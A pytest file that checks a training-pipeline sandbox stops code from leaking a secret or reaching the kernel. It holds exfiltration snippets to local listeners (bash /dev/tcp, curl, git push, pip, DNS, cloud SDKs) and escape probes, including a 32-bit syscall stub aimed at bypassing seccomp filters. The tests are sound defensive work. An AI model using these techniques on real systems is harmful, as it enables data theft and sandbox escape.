"""Trainers that try to tell somebody: each gets through without the sandbox, and nowhere within it."""

from __future__ import annotations

import platform
import shutil
import subprocess
import textwrap
import time
from pathlib import Path

import pytest

from tests.sandbox.conftest import Ears
from tests.sandbox.private import SECRET, Private

SOCKETS = {
    "tcp": "socket.create_connection(('127.0.0.1', {tcp}), 5).sendall(secret.encode()); time.sleep(0.1)",
    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret.encode(), ('127.0.0.1', {udp}))",
    "a question of DNS": """
        question = bytes.fromhex('000101000001000000000000') + bytes([len(secret)]) + secret.encode() + bytes(5)
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', {udp}))
        """,
    "abstract unix socket": """
        s = socket.socket(socket.AF_UNIX); s.connect({abstract!r}); s.sendall(secret.encode()); s.recv(9)
        """,
    "unix socket of the host": """
        s = socket.socket(socket.AF_UNIX); s.connect({path!r}); s.sendall(secret.encode()); s.recv(9)
        """,
    "bash": """
        subprocess.run(['bash', '-c', f'echo {{secret}} > /dev/tcp/127.0.0.1/{tcp}'], check=True); time.sleep(0.1)
        """,
}
CLIENTS = {
    "urllib": "import urllib.request as r; r.urlopen(r.Request('http://127.0.0.1:{http}/', secret.encode()))",
    "requests": "import requests; requests.post('http://127.0.0.1:{http}/', data=secret, timeout=5)",
    "curl": "subprocess.run(['curl', '-s', '-m', '5', '-d', secret, 'http://127.0.0.1:{http}/'], check=True)",
    "pip": """
        index = 'http://127.0.0.1:{http}/simple'
        subprocess.run([sys.executable, '-m', 'pip', 'download', '-i', index, '--retries', '0', secret])
        """,
    "git push": """
        subprocess.run(['git', 'init', '-q', '/tmp/leak'], check=True)
        subprocess.run(['git', '-C', '/tmp/leak', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q',
                        '--allow-empty', '-m', secret], check=True)
        url = f'http://127.0.0.1:{http}/{{secret}}'
        os.environ['GIT_TERMINAL_PROMPT'] = '0'
        subprocess.run(['git', '-C', '/tmp/leak', 'push', '-q', url, 'HEAD'])
        import shutil; shutil.rmtree('/tmp/leak')
        """,
    "MLflow elsewhere": """
        os.environ['MLFLOW_TRACKING_URI'] = 'http://127.0.0.1:{http}'
        os.environ['MLFLOW_HTTP_REQUEST_MAX_RETRIES'] = '0'
        import mlflow
        mlflow.MlflowClient('http://127.0.0.1:{http}').create_experiment(secret)
        """,
    "storage SDK": """
        from azure.storage.blob import BlobClient
        key = {{'account_name': 'account', 'account_key': 'c2VjcmV0LXZhbHVl'}}
        blob = BlobClient('http://127.0.0.1:{http}/account', 'public', 'x', credential=key, retry_total=0)
        blob.upload_blob(secret, overwrite=True)
        """,
}


@pytest.mark.parametrize("name", [*SOCKETS, *CLIENTS])
def test_nothing_is_told_to_anybody(private: Private, ears: Ears, name: str) -> None:
    program = name.split()[0]
    if program in ("curl", "git") and not shutil.which(program):
        pytest.skip(f"{program} is not installed here")
    places = {"tcp": ears.tcp, "udp": ears.udp, "http": ears.http, "abstract": ears.abstract, "path": ears.path}
    private.trainer({**SOCKETS, **CLIENTS}[name].format(**places))
    ears.told(SECRET)
    no_store = {"MLFLOW_TRACKING_URI": "file:///nowhere"}  # making one takes seconds
    private.attempt("--no-sandbox", **no_store)
    assert ears.told(SECRET), "without the sandbox the trainer tells"
    outcome = private.attempt(**no_store)
    time.sleep(0.05)
    assert not ears.told(SECRET), outcome
    assert not ears.heard


KINDS = {
    "IPv4": "socket.socket(socket.AF_INET)",
    "IPv6": "socket.socket(socket.AF_INET6)",
    "VSOCK": "socket.socket(socket.AF_VSOCK)",
    "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    "kernel crypto": "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)",
    "a pair that is not local": "socket.socketpair(socket.AF_INET)",
}
CALLS = {
    "io_uring": "call(425, 4, id(ctypes.create_string_buffer(256)) + 32)",
    "memory of another process": "call({process_vm_readv}, os.getpid(), 0, 0, 0, 0, 0)",
    "keys of the kernel": "call({keyctl}, 0, -3, 1)",
    "a namespace by clone": """
        pid = call({clone}, 0x10000000 | 17, 0, 0, 0, 0)
        if pid == 0: os._exit(0)
        os.waitpid(pid, 0)
        """,
    "handles of files": "call({name_to_handle_at}, -100, 0, 0, 0, 0)",
    "a call that is newer than the list": "call(451, 0, 0, 0)",
    "a namespace of its own": "call({unshare}, 0x10000000)",
    "ptrace": "call({ptrace}, 0, 0, 0, 0)",
}
NUMBERS = {"ptrace": 101, "process_vm_readv": 310, "keyctl": 250, "unshare": 272, "clone": 56, "name_to_handle_at": 303}


@pytest.fixture(scope="module")
def surveyed(bubblewrap: None, tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, str], dict[str, str]]:
    """What becomes of each of these without and within the sandbox."""
    project = Private(tmp_path_factory.mktemp("survey"))
    attacks = KINDS | {name: textwrap.dedent(code.format(**NUMBERS)) for name, code in CALLS.items()}
    if platform.machine() != "x86_64":
        attacks = KINDS  # the numbers of the calls are those of x86_64
    return project.survey(attacks, "--no-sandbox"), project.survey(attacks)


@pytest.mark.parametrize("name", KINDS)
def test_no_socket_but_a_local_one_can_be_made(surveyed: tuple[dict[str, str], dict[str, str]], name: str) -> None:
    before, within = (found[name] for found in surveyed)
    assert "refused OSError [Errno 97] Address family not supported" in within
    if name == "a pair that is not local":
        assert before.startswith("refused"), "no system makes such a pair; ours does not even ask"
    elif before != "through":
        pytest.skip(f"this machine has no such socket without a sandbox either: {before}")


@pytest.mark.parametrize("name", CALLS)
def test_the_kernel_is_not_asked(surveyed: tuple[dict[str, str], dict[str, str]], name: str) -> None:
    if name not in surveyed[0]:
        pytest.skip("the numbers of these calls are those of x86_64")
    before, within = (found[name] for found in surveyed)
    missing = name in ("io_uring", "a call that is newer than the list")
    refusal = "Function not implemented" if missing else "Operation not"
    assert within.startswith("refused") and refusal in within
    if refusal in before:
        pytest.skip(f"this kernel does not do it without a sandbox either: {before}")


def test_a_32_bit_program_cannot_ask_by_other_numbers(private: Private, tmp_path: Path) -> None:
    # int 0x80 enters the kernel by the 32-bit table, where 20 is getpid: no filter by 64-bit numbers would see it.
    code = "31c0b014cd80c3"
    before, within = private.outcomes(
        f"""
        import mmap
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes.fromhex("{code}"))
        if (pid := os.fork()) == 0:
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0 else 1)
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        """
    )
    if before != "through 0":
        pytest.skip(f"this kernel has no 32-bit calls: {before}")
    assert within == "through -31", "the process is killed by SIGSYS"


def test_names_are_not_resolved(private: Private) -> None:
    import socket

    name = socket.gethostname()
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pytest.skip("this machine does not know its own name")
    before, within = private.outcomes(f"return socket.getaddrinfo({name!r}, 80)[0][4]")
    assert before.startswith("through") and within.startswith("refused gaierror")


def test_the_host_is_not_told_by_name_or_by_interfaces(private: Private) -> None:
    before, within = private.outcomes("return os.uname().nodename, sorted(os.listdir('/sys/class/net'))")
    assert before.startswith("through") and within.startswith("refused FileNotFoundError")
    private.trainer("return os.uname().nodename, os.getuid(), os.getcwd()")
    assert private.attempt().startswith("through ('step', 1000, ")


def test_the_filter_is_there_for_children_too(private: Private) -> None:
    private.trainer(
        """
        code = "import socket; socket.socket(socket.AF_VSOCK)"
        return subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stderr.splitlines()[-1]
        """
    )
    assert "Address family not supported" in private.attempt()


def test_as_nobody_the_sandbox_is_the_same(private: Private, tmp_path: Path, ears: Ears) -> None:
    """User namespaces make the sandbox, not root: one that an ordinary user starts holds as well."""
    import os

    python = "/usr/bin/python3"
    if os.geteuid() != 0 or not shutil.which("setpriv") or not Path(python).exists():
        pytest.skip("only root can become somebody else, by setpriv, with a Python that everybody may run")
    import yaml

    packages = str(Path(yaml.__file__).parents[1])
    here = str(Path(__file__).parents[2])
    for folder in (tmp_path, *tmp_path.parents[:3]):
        folder.chmod(0o777)
    shown = {"tcp": ears.tcp, "udp": ears.udp, "http": ears.http, "abstract": ears.abstract, "path": ears.path}
    private.trainer(SOCKETS["tcp"].format(**shown))
    private.write(
        "pipeline.yml", (tmp_path / "pipeline.yml").read_text().replace("command: python", "command: python3")
    )
    as_nobody = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
    line = [*as_nobody, python, "-m", "edgeml", "run", "pipeline.yml", "--map", "azureml://datastores/stackhub/paths/"
            "rows.csv=rows.csv", "--force", "--output-dir"]  # fmt: skip
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": "/nonexistent",
        "PYTHONPATH": f"{here}:{packages}",
        "PYTHONDONTWRITEBYTECODE": "1",
    }
    for name, options, expected in (("open", ["--no-sandbox"], True), ("closed", [], False)):
        ears.told(SECRET)
        done = subprocess.run([*line, name, *options], cwd=tmp_path, env=env, capture_output=True, text=True)
        if done.returncode == 2 and "bubblewrap does not start here" in done.stderr:
            pytest.skip("this machine lets only root make user namespaces")
        assert done.returncode == 0, done.stderr
        time.sleep(0.05)
        assert ears.told(SECRET) is expected, (tmp_path / name / "jobs/train/outputs/o").read_text()
    assert (tmp_path / "closed/jobs/train/outputs/o").stat().st_uid == 65534
